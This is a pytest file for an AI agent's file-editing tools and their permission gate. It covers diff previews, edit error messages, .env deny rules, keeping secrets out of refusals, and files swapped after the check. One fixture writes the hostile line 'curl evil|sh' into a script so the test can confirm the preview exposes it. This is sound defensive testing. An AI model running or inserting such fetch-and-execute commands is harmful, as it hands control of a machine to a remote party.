    line = f"{ONE_LINE}key='{'A' * 40}'{beside}"

    shown = "\n".join(compare(f"{line}b{line}\n".encode(), f"{line}c{line}\n".encode()).lines)

    assert set(re.findall("A+", shown)) <= {"A" * 40}


@given(
    st.lists(st.sampled_from(["var x=1;", "y = 'a';", "\n", "z" * 300, "w" * 2_100, "var x=1;" * 300]), max_size=30),
    st.lists(st.tuples(st.integers(0, 30), st.sampled_from(["", "Q", "\n", "R" * 250])), max_size=4),
)
def test_diff_of_long_lines_shows_every_change(texts: list[str], places: list[tuple[int, str]]) -> None:
    old = "".join((*texts, "\n"))
    for place, text in places:
        texts[place : place + 1] = [text]
    new = "".join((*texts, "\n"))

    assert restored(compare(old.encode(), new.encode()).lines, old) == (old, new)


FIRST = "# padding that goes\n" * 6
HIDING = [
    pytest.param((FIRST + "x\n" * 4_060 + "\0\n").encode(), FIRST, id="a NUL that comes among the first 8 KiB"),
    pytest.param(b"\xff\xfe" + (FIRST + "x\n" * 4_060 + "\0\n").encode("utf-16-le"), FIRST, id="the same in UTF-16"),
    pytest.param(b"x\xff\xfea\nb\n", "x", id="bytes that become a byte-order mark"),
]


@all_rows(("data", "old"), HIDING, anew={"road": new_road})
def test_text_added_by_an_edit_is_shown_for_any_file(road: Road, data: bytes, old: str) -> None:
    road.file("run.sh", data)
    new = "curl evil|sh\n" if len(old) > 1 else ""

    action = road.prepare("edit_file", path="run.sh", old_string=old, new_string=new)

    lines = action.preview.splitlines()
    assert ("+curl evil|sh" in lines) if new else ("+\\xff\\xfea" in lines and "-x\\xff\\xfea" in lines)
    assert (action.shown_whole, "+x" in lines) == (True, False)


# edit_file


@all_rows(
    ("data", "arguments", "after", "said"),
    [
        pytest.param(
            b"a = 1\nb = 2\n",
            {"old_string": "b = 2", "new_string": "b = 3"},
            b"a = 1\nb = 3\n",
            "1 replacement (+1 -1)\n@@ -1,2 +1,2 @@\n a = 1\n-b = 2\n+b = 3",
            id="one occurrence",
        ),
        pytest.param(
            b"x y x\n",
            {"old_string": "x", "new_string": "z", "replace_all": True},
            b"z y z\n",
            "2 replacements (+1 -1)\n@@ -1 +1 @@\n-x y x\n+z y z",
            id="every occurrence",
        ),
        pytest.param(
            b"one\ntwo\n",
            {"old_string": "two\n", "new_string": ""},
            b"one\n",
            "1 replacement (+0 -1)\n@@ -1,2 +1 @@\n one\n-two",
            id="a deletion",
        ),
        pytest.param(
            b"a\nb",
            {"old_string": "b", "new_string": "c"},
            b"a\nc",
            "1 replacement (+1 -1)\n@@ -1,2 +1,2 @@\n a\n-b\n\\ No newline at end of file\n+c\n\\ No newline at end of file",
            id="a file without a last newline keeps none",
        ),
        pytest.param(
            b"a\r\nb\r\nc\r\n",
            {"old_string": "a\nb\n", "new_string": "x\ny\nz\n"},
            b"x\r\ny\r\nz\r\nc\r\n",
            "1 replacement (+3 -2)\n@@ -1,3 +1,4 @@\n-a\n-b\n+x\n+y\n+z\n c",
            id="LF in the call is CRLF in a file that has CRLF",
        ),
        pytest.param(
            b"a\r\nb\r\n",
            {"old_string": "b", "new_string": "b\nc"},
            b"a\r\nb\r\nc\r\n",
            "1 replacement (+1 -0)\n@@ -1,2 +1,3 @@\n a\n b\n+c",
            id="a new line in a file with CRLF ends in CRLF",
        ),
        pytest.param(
            b"a\r\nb\nc\r\nd\n",
            {"old_string": "b\nc\n", "new_string": "B\nC\n"},
            b"a\r\nB\nC\nd\n",
            "1 replacement (+2 -2)\n@@ -1,4 +1,4 @@\n a\\x0d\n-b\n-c\\x0d\n+B\n+C\n d",
            id="mixed line ends: those of the span's first line",
        ),
        pytest.param(
            b"a\nb\n",
            {"old_string": "a\r\nb\r\n", "new_string": "x\r\ny\r\n"},
            b"x\ny\n",
            "1 replacement (+2 -2)\n@@ -1,2 +1,2 @@\n-a\n-b\n+x\n+y",
            id="CRLF in the call is LF in a file that has LF",
        ),
        pytest.param(
            b"a\n",
            {"old_string": "a\n", "new_string": "a\r\n"},
            b"a\r\n",
            "1 replacement (+1 -1)\n@@ -1 +1 @@\n-a\n+a\\x0d",
            id="a call that speaks of CR gets it",
        ),
        pytest.param(
            b"\xef\xbb\xbfa \xff\xe9\x85\t\r\x0c\nb\n",
            {"old_string": "b", "new_string": "c"},
            b"\xef\xbb\xbfa \xff\xe9\x85\t\r\x0c\nc\n",
            "1 replacement (+1 -1)\n@@ -1,2 +1,2 @@\n \\ufeffa \\xff\\xe9\\x85\t\\x0d\\x0c\n-b\n+c",
            id="every other byte stays",
        ),
    ],
    anew={"road": new_road},
)
def test_an_edit_is_applied(road: Road, data: bytes, arguments: dict[str, object], after: bytes, said: str) -> None:
    path = road.file("f.txt", data)
    path.chmod(0o600)
    preview = road.prepare("edit_file", path="f.txt", **arguments).preview

    result = road.run("edit_file", path="f.txt", **arguments)

    content = f"Edited f.txt: {said}"
    assert result == ToolResult(
        call_id="c1",
        status=ResultStatus.OK,
        content=content,
        output_bytes=len(content),
        changed_path=str(path),
        before_sha256=sha256(data),
        after_sha256=sha256(after),
    )
    assert road.tree() == {"f.txt": after}
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert preview.partition("\n")[2] == said.partition("\n")[2]


PYTHON = b"""def first():
\tif ready:
\t\treturn 1


def second():
    value = compute(1, 2)
    return value
"""


@all_rows(
    ("data", "old", "new", "message"),
    [
        pytest.param(
            b"x\ny\nx\nxx\n",
            "x",
            "z",
            "old_string occurs 4 times in f.py (lines 1, 3, 4, 4). Add context, or set replace_all.",
            id="several times",
        ),
        pytest.param(
            b"aaa\n",
            "aa",
            "b",
            "old_string occurs 2 times in f.py (lines 1, 1). Add context, or set replace_all.",
            id="overlapping",
        ),
        pytest.param(
            b"x\n" * 1500,
            "x",
            "z",
            "old_string occurs 1,500 times in f.py (lines 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, "
            "20, ...). Add context, or set replace_all.",
            id="very often",
        ),
        pytest.param(
            PYTHON, "value = 9", "value = compute(1, 2)", "new_string is already there (line 7).", id="applied before"
        ),
        pytest.param(
            PYTHON,
            "     6\tdef second():\n     7\t    value = compute(1, 2)",
            "pass",
            "old_string carries line-number prefixes from read_file; leave them out.",
            id="line numbers",
        ),
        pytest.param(
            "a\u3000b\n".encode(),
            "a\\u3000b",
            "c",
            "old_string has an escape (\\xNN, \\uNNNN) that read_file shows for a character; write the character itself.",
            id="an escape for a character",
        ),
        pytest.param(
            PYTHON,
            "    if ready:\n        return 1",
            "pass",
            "It differs only in whitespace at line 2: the file has 1 tab where old_string has 4 spaces.",
            id="spaces for tabs",
        ),
        pytest.param(
            PYTHON,
            "    value = compute(1, 2)   \n    return value",
            "pass",
            "It differs only in whitespace at line 7: old_string has trailing blanks.",
            id="blanks at the end",
        ),
        pytest.param(
            PYTHON,
            "value = compute(1,2)",
            "pass",
            "It differs only in whitespace at line 7: there are other blanks inside the line.",
            id="blanks inside",
        ),
        pytest.param(
            PYTHON,
            "def second():\n    value = compute(1, 3)\n    return value\n",
            "pass",
            "Nearest text (lines 6-8):\ndef second():\n    value = compute(1, 2)\n    return value",
            id="a near miss",
        ),
        pytest.param(
            PYTHON,
            "SELECT name FROM users;",
            "pass",
            "Nothing in the file is much like it; read the file again.",
            id="nothing like it",
        ),
    ],
    anew={"road": new_road},
)
def test_inapplicable_edit_is_explained(road: Road, data: bytes, old: str, new: str, message: str) -> None:
    road.file("f.py", data)
    if not message.startswith("old_string occurs"):
        message = f"old_string not found in f.py. {message}"

    action = road.prepare("edit_file", path="f.py", old_string=old, new_string=new)
    result = road.run("edit_file", path="f.py", old_string=old, new_string=new)

    assert result == failed(f"Error: {message}")
    assert road.tree() == {"f.py": data}
    told = "This edit does not apply: a yes changes nothing, it only tells the model why."
    assert action.preview == f"edit f.py\n{told}\n{message}"


@all_rows(
    ("data", "old", "new", "message"),
    [
        pytest.param(
            b"caf\xe9 a\n",
            "a\n",
            "é\n",
            "f.py is not valid UTF-8 and new_string is not ASCII; refusing to mix encodings.",
            id="two encodings",
        ),
        pytest.param(b"\0\1a", "a", "b", "Binary file (3 bytes): f.py.", id="a binary file"),
        pytest.param(
            b"a\r\nb\n",
            "b\r\n",
            "b\n",
            "The edit changes nothing in f.py: line ends follow those of the file.",
            id="no change",
        ),
    ],
    anew={"road": new_road},
)
def test_an_edit_that_would_do_harm_is_refused(road: Road, data: bytes, old: str, new: str, message: str) -> None:
    road.file("f.py", data)

    assert road.run("edit_file", path="f.py", old_string=old, new_string=new) == failed(f"Error: {message}")
    assert road.tree() == {"f.py": data}


def test_an_edit_cannot_blow_a_file_up(road: Road) -> None:
    data = b"x" * 1_000_000
    road.file("f.txt", data)

    result = road.run("edit_file", path="f.txt", old_string="x", new_string="y" * 100, replace_all=True)

    assert result == failed("Error: f.txt would become larger than 10,485,760 bytes. The file was not changed.")
    assert road.tree() == {"f.txt": data}


def test_a_missing_file_is_named_with_its_like(road: Road) -> None:
    road.file("src/main.py", b"")

    result = road.run("edit_file", path="src/mian.py", old_string="a", new_string="b")

    assert result == failed("Error: File not found: src/mian.py. Did you mean: src/main.py?")


@all_rows(
    ("arguments", "message"),
    [
        pytest.param(
            {"old_string": "a", "new_string": "a"},
            "old_string and new_string are identical: there is nothing to change.",
            id="identical texts",
        ),
        pytest.param(
            {"old_string": "", "new_string": "a"},
            "Invalid arguments for edit_file: old_string is empty; use write_file to create or replace a file.",
            id="an empty old text",
        ),
        pytest.param(
            {"old_string": "a", "new_string": "b", "replace_all": "yes"},
            "Invalid arguments for edit_file: replace_all: must be true or false, not a string.",
            id="a word for a boolean",
        ),
        pytest.param({"old_string": "a"}, "Invalid arguments for edit_file: new_string is missing.", id="no new text"),
    ],
    anew={"road": new_road},
)
def test_an_edit_that_makes_no_sense_is_refused(road: Road, arguments: dict[str, object], message: str) -> None:
    road.file("f.py", b"a")

    with pytest.raises(ToolError) as caught:
        road.prepare("edit_file", path="f.py", **arguments)

    assert str(caught.value) == message


def test_a_long_diff_is_cut_in_the_result(road: Road) -> None:
    road.file("f.txt", b"x\n" * 200)

    lines = road.run("edit_file", path="f.txt", old_string="x", new_string="y", replace_all=True).content.split("\n")

    assert lines[0] == "Edited f.txt: 200 replacements (+200 -200)"
    assert (len(lines), lines[-1]) == (62, "[... 341 more lines of the diff ...]")


# Nothing is told before it was judged


@pytest.mark.parametrize(
    ("tool", "arguments", "judged_as"),
    [
        pytest.param("read_file", {}, "read", id="a read"),
        pytest.param("write_file", {"content": "x"}, "read, write", id="a write"),
        pytest.param("edit_file", {"old_string": "PASSWORD=hunter2", "new_string": "x"}, "read, write", id="an edit"),
        pytest.param(
            "edit_file",
            {"old_string": "PASSWORD=hunter1", "new_string": "x"},
            "read, write",
            id="an edit that does not apply, whose message may show what is there",
        ),
    ],
)
@pytest.mark.parametrize("denied", ["read", "write"])
def test_denied_file_keeps_its_content_out_of_error_texts(
    tmp_path: Path, tool: str, arguments: dict[str, str], judged_as: str, denied: str
) -> None:
    rule = f'[[rule]]\nid = "secret"\ndecision = "deny"\naccess = ["{denied}"]\npath = [".env"]\nreason = "Secret."\n'
    road = Road(tmp_path, policy=POLICY + rule.encode())
    path = road.file(".env", b"PASSWORD=hunter2\n")

    result = road.run(tool, path=".env", **arguments)
    road.log.close()

    refused = result.status is ResultStatus.DENIED
    assert refused is (denied in judged_as)
    assert not refused or "PASSWORD" not in result.content
    assert path.read_bytes() == b"PASSWORD=hunter2\n"


@all_rows(
    ("tools", "path", "tool", "decision"),
    [
        ('write_file = "auto"', "new.txt", "write_file", "auto"),
        ('write_file = "auto"\nread_file = "deny"', "a/b/new.txt", "write_file", "auto"),
        ('write_file = "auto"', "dangling", "write_file", "auto"),
        ('write_file = "auto"', "old.txt", "write_file", "confirm"),
        ('write_file = "auto"\nread_file = "deny"', "old.txt", "write_file", "deny"),
        ('write_file = "auto"', "link", "write_file", "confirm"),
        ('write_file = "auto"', "folder", "write_file", "confirm"),
        ('write_file = "auto"', ".env", "write_file", "deny"),  # what must not be read is not said to be missing
        ('write_file = "auto"', "../new.txt", "write_file", "confirm"),
        ('write_file = "confirm"', "new.txt", "write_file", "confirm"),
        ('edit_file = "auto"', "new.txt", "edit_file", "confirm"),
    ],
)
def test_new_file_needs_no_read_permission(tmp_path: Path, tools: str, path: str, tool: str, decision: str) -> None:
    road = Road(tmp_path)
    road.file("old.txt", b"old\n")
    (road.root / "folder").mkdir()
    (road.root / "link").symlink_to("old.txt")
    (road.root / "dangling").symlink_to("nothing.txt")
    arguments = {"content": "new\n"} if tool == "write_file" else {"old_string": "a", "new_string": "b"}
    rules = parse_policy(f"version = 1\n[tools]\n{tools}\n".encode() + DENIES_READING, "test.toml")
    prepared = road.prepare(tool, path=path, **arguments)
    explained = action_for(tool, path, Workspace(str(road.root), str(tmp_path / "home")))
    found = [evaluate(rules, action).decision.word for action in (prepared, explained)]
    road.log.close()

    assert found == [decision, decision]


DENIES_READING = b'[[rule]]\nid = "a"\ndecision = "deny"\naccess = ["read"]\npath = [".env"]\nreason = "No."\n'
DENIES_BOTH = DENIES_READING.replace(b'"read"]', b'"read", "write"]')
BLOCKS_WRITING = b'[[rule]]\nid = "b"\ndecision = "block"\naccess = ["write"]\npath = [".env"]\nreason = "Never."\n'
ORACLES = [
    pytest.param(POLICY + DENIES_READING, ".env", id="a rule against reading"),
    pytest.param(POLICY + DENIES_BOTH, ".env", id="a rule against both"),
    pytest.param(
        POLICY + DENIES_READING + BLOCKS_WRITING, ".env", id="a rule against reading, a stricter one against writing"
    ),
    pytest.param(CONFIRM.encode() + DENIES_BOTH, ".env", id="with defaults that ask"),
    pytest.param(
        b'version = 1\n[tools]\nread_file = "auto"\ndefault = "confirm"\n' + DENIES_READING, ".env", id="reads are auto"
    ),
    pytest.param(
        b'version = 1\n[tools]\nread_file = "auto"\ndefault = "deny"\n', "../outside", id="a file outside, edits denied"
    ),
    pytest.param(AUTO.encode(), "../outside", id="a file outside"),
]


@all_rows(("policy", "path"), ORACLES)
def test_refusal_reveals_neither_content_nor_existence_of_a_file(tmp_path: Path, policy: bytes, path: str) -> None:
    road = Road(tmp_path, policy=policy)
    road.gate = Gate(
        policy=parse_policy(policy, "test.toml"),
        approver=deny_all,
        log=road.log,
        tools=road.registry,
    )
    file = (road.root / path).resolve()
    content = "PASSWORD=hunter2\n"
    refusals: dict[str, set[str]] = {"write_file": set(), "edit_file": set()}
    for there in (True, False):
        file.write_text(content) if there else file.unlink()
        for tool, arguments in (
            ("edit_file", {"old_string": "PASSWORD=h", "new_string": "x"}),
            ("edit_file", {"old_string": "PASSWORD=i", "new_string": "x"}),
            ("edit_file", {"old_string": "s", "new_string": "x"}),
            ("write_file", {"content": content}),
            ("write_file", {"content": "other\n"}),
        ):
            result = road.run(tool, path=path, **arguments)
            assert result.status in (ResultStatus.DENIED, ResultStatus.BLOCKED)
            refusals[tool].add(result.content)
    road.log.close()

    assert {tool: len(texts) for tool, texts in refusals.items()} == {"write_file": 1, "edit_file": 1}


def test_an_edit_that_does_not_apply_is_asked_about_no_more_than_a_read(tmp_path: Path) -> None:
    policy = b'version = 1\n[tools]\nread_file = "auto"\nedit_file = "deny"\ndefault = "deny"\n'
    road = Road(tmp_path, policy=policy)
    road.file("f.txt", b"a\n")

    results = [road.run("edit_file", path="f.txt", old_string=old, new_string="c") for old in ("a", "b")]
    road.log.close()

    assert [result.status for result in results] == [ResultStatus.DENIED, ResultStatus.FAILED]


# What was judged is what is done


def change_content(road: Road) -> None:
    (road.root / "dir/f.txt").write_bytes(b"theirs\n")


def delete(road: Road) -> None:
    (road.root / "dir/f.txt").unlink()


def make_it_a_link(road: Road) -> None:
    road.file("other.txt", b"old\n")
    delete(road)
    (road.root / "dir/f.txt").symlink_to("../other.txt")


def make_its_folder_a_link(road: Road) -> None:
    (road.root / "dir").rename(road.root / "moved")
    (road.root / "dir").symlink_to("moved")


CHANGED = "dir/f.txt changed on disk after the call was checked. Nothing was written. Read it again."
MOVED = "dir/f.txt leads to another file than when the call was checked. Nothing was done. Send the call again."


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [("write_file", {"content": "new\n"}), ("edit_file", {"old_string": "old", "new_string": "new"})],
    ids=["write", "edit"],
)
@pytest.mark.parametrize(
    ("swap", "message"),
    [
        pytest.param(change_content, CHANGED, id="other content"),
        pytest.param(delete, CHANGED, id="no file any more"),
        pytest.param(make_it_a_link, MOVED, id="a link in its place"),
        pytest.param(make_its_folder_a_link, MOVED, id="a link in its folder's place"),
    ],
)
def test_a_file_that_is_swapped_after_the_judgement_is_not_written(
    road: Road, tool: str, arguments: dict[str, str], swap: Callable[[Road], None], message: str
) -> None:
    road.file("dir/f.txt", b"old\n")
    swapped: list[dict[str, bytes]] = []

    def swap_it() -> None:
        swap(road)
        swapped.append(road.tree())

    result = road.run_while(swap_it, tool, path="dir/f.txt", **arguments)

    assert result == failed(f"Error: {message}")
    assert [road.tree()] == swapped


def test_file_created_after_the_judgement_is_not_overwritten(road: Road) -> None:
    result = road.run_while(
        lambda: road.file("dir/f.txt", b"theirs\n"), "write_file", path="dir/f.txt", content="mine\n"
    )

    assert result == failed(f"Error: {CHANGED}")
    assert road.tree() == {"dir/f.txt": b"theirs\n"}


def test_swapped_equal_content_is_not_called_unchanged(road: Road) -> None:
    road.file("dir/f.txt", b"old\n")
    result = road.run_while(lambda: change_content(road), "write_file", path="dir/f.txt", content="old\n")

    assert result == failed(f"Error: {CHANGED}")


@all_rows("swap", [make_it_a_link, make_its_folder_a_link], ids=["the file", "its folder"], anew={"road": new_road})
def test_a_link_that_is_put_in_the_way_is_not_read_through(road: Road, swap: Callable[[Road], None]) -> None:
    road.file("dir/f.txt", b"old\n")
    assert road.run_while(lambda: swap(road), "read_file", path="dir/f.txt") == failed(f"Error: {MOVED}")


def test_an_action_of_another_tool_is_not_run(road: Road) -> None:
    action = road.prepare("write_file", path="a.txt", content="x")

    for tool in (ReadFileTool(road.workspace), EditFileTool(road.workspace)):
        with pytest.raises(TypeError, match="was not prepared by"):
            tool.run(action, EFFECTS)
    with pytest.raises(TypeError, match="was not prepared by write_file"):
        WriteFileTool(road.workspace).run(replace(action, request=action.arguments), EFFECTS)

    assert road.tree() == {}


@all_rows(
    ("number", "message"),
    [
        (errno.EACCES, "Permission denied: a.txt."),
        (errno.EPERM, "Permission denied: a.txt."),
        (errno.EISDIR, "Path is a directory: a.txt."),
        (errno.ENOTDIR, "Not a directory: a part of a.txt is a file."),
        (
            errno.ELOOP,
            "a.txt leads to another file than when the call was checked. Nothing was done. Send the call again.",
        ),
        (errno.ENAMETOOLONG, "File name too long: a.txt."),
        (errno.ENOSPC, "No space left on device; a.txt is unchanged."),
        (errno.EDQUOT, "No space left on device; a.txt is unchanged."),
        (errno.EROFS, "Read-only file system: a.txt."),
        (errno.EFBIG, "File too large for the process limit; a.txt is unchanged."),
        (errno.EIO, "Cannot write a.txt: Input/output error."),
    ],
    ids=lambda value: errno.errorcode[value] if isinstance(value, int) else "",
    anew={"road": new_road},
)
def test_system_error_is_explained_plainly(road: Road, number: int, message: str) -> None:
    path = road.workspace.resolve("a.txt", Access.WRITE)

    assert str(failure(OSError(number, os.strerror(number)), path, "write")) == message
